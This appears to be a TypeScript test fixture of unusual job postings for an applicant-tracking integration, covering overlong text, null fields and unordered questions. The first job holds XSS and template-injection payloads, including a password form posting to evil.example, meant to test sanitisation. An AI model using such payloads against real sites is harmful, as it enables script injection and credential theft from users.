/** Jobs that are odd in ways that real ATSs are: hostile, endless, empty, unreadable. */
import {
  choice,
  choices,
  information,
  number,
  oddQuestion,
  text,
  upload,
  yesNo,
} from '../a-question.ts';
import { LUMEN_STAGES, lumenJob } from './lumen.ts';

const HOSTILE = `<p>Before <script>document.title = 'taken over'</script> after.</p>
<img src="x" onerror="document.title = 'taken over'">
<a href="javascript:document.title = 'taken over'">A harmless link</a>
<iframe src="https://evil.example"></iframe>
<style>body { display: none }</style>
<form action="https://evil.example"><input name="password"><button>Send</button></form>
<svg><script>document.title = 'taken over'</script></svg>
<div style="position: fixed; inset: 0; background: red" onclick="document.title = 'taken over'">Cover</div>
<p>What remains is this sentence.</p>`;

const PARAGRAPH =
  '<p>We bake for schools, hospitals and trains, in nine cities, every night of the year. Whoever works here knows what time the first tram leaves, and that a croissant does not wait.</p>\n';

/** A text of at least so many characters. */
const long = (text: string, characters: number) => text.repeat(Math.ceil(characters / text.length));

/** Jobs with what the contract allows and nobody expects. */
export const ODD = [
  lumenJob({
    key: '40901',
    name: 'Security Tester <script>alert(1)</script>',
    stages: ['<b>New</b>', '"><img src=x onerror=alert(1)>'],
    questions: [
      text('hostile-title', `"><img src=x onerror="document.title = 'taken over'"> Your name?`),
      text('hostile-description', 'What is your test environment?', { description: HOSTILE }),
      information('hostile-information', 'Please read', HOSTILE),
      choice('hostile-options', 'Which of these is safe?', [
        '<script>alert(1)</script>',
        '{{constructor.constructor("alert(1)")()}}',
        'None',
      ]),
    ],
    with: { job_code: 'LF-901', department: '<i>Security</i>', description: HOSTILE },
  }),
  lumenJob({
    key: '40902',
    name: 'Technical Writer with a very long description',
    stages: LUMEN_STAGES,
    questions: [
      text('long-title', long('How would you shorten this question? ', 10_000)),
      text('long-description', 'Read all of this first.', { description: long(PARAGRAPH, 10_000) }),
    ],
    with: { job_code: 'LF-902', description: long(PARAGRAPH, 10_000) },
  }),
  lumenJob({
    key: '40903',
    name: null,
    place: null,
    questions: [
      text('null-title', null, { description: null }),
      text('empty-title', '', { description: '' }),
      choice('same-names', 'Which shift?', ['Night', 'Night', 'Day', '', '']),
      choices('same-names-many', 'Which allergies do you have?', ['Nuts', 'Nuts', '', 'None']),
      choice('no-options', 'Which of these?', []),
      yesNo('required-null', 'Is this one required?', { required: null }),
    ],
    with: {
      post_url: null,
      remote_url: null,
      employment_type: null,
      visibility: null,
      opened_at: null,
      remote_created_at: null,
      remote_updated_at: null,
      job_postings: [],
    },
  }),
  lumenJob({
    key: '40904',
    name: 'Sensory Panel Member',
    stages: LUMEN_STAGES,
    questions: [
      oddQuestion('unknown', 'Draw your signature', {
        type: 'UNKNOWN',
        raw_question: { kind: 'signature' },
      }),
      oddQuestion(
        'unknown-required',
        'Sign the panel agreement',
        { type: 'UNKNOWN' },
        {
          required: true,
        },
      ),
      oddQuestion('null-format', 'Describe the smell of rain', null),
      oddQuestion('missing-format', 'Describe the taste of rain', undefined, { required: true }),
      text('bare', 'Anything to add?'),
      oddQuestion('bare-text', 'A text without attributes', { type: 'TEXT' }),
      oddQuestion('bare-number', 'A number without attributes', { type: 'NUMBER' }),
      oddQuestion('bare-file', 'A file without limits', {
        type: 'FILE',
        accepted_mime_types: null,
        max_file_size_bytes: null,
      }),
      text('unlimited', 'A text whose limit is null', { max_length: null }),
      upload('tiny', 'A text file of at most 1,000 bytes', {
        accepted_mime_types: ['text/plain'],
        max_file_size_bytes: 1000,
      }),
    ],
    with: { job_code: 'LF-904', department: 'Research' },
  }),
  lumenJob({
    key: '40905',
    name: 'Order Picker (questions out of order)',
    stages: [
      { name: 'Second', index: 1 },
      { name: 'First', index: 0 },
      { name: 'Without a place', index: null, status: null },
      { name: 'Switched off', index: 2, status: 'INACTIVE' },
    ],
    questions: [
      text('last', 'Asked last: it has no place', { index: null }),
      text('third', 'Asked third', { index: 7 }),
      text('second', 'Asked second', { index: 3 }),
      text('first', 'Asked first', { index: 1 }),
      number('fourth', 'Asked fourth: same place as the third, later in the list', {
        index: 7,
        min: 5,
        max: 5,
      }),
    ],
    with: { job_code: 'LF-905', department: 'Logistics' },
  }),
];
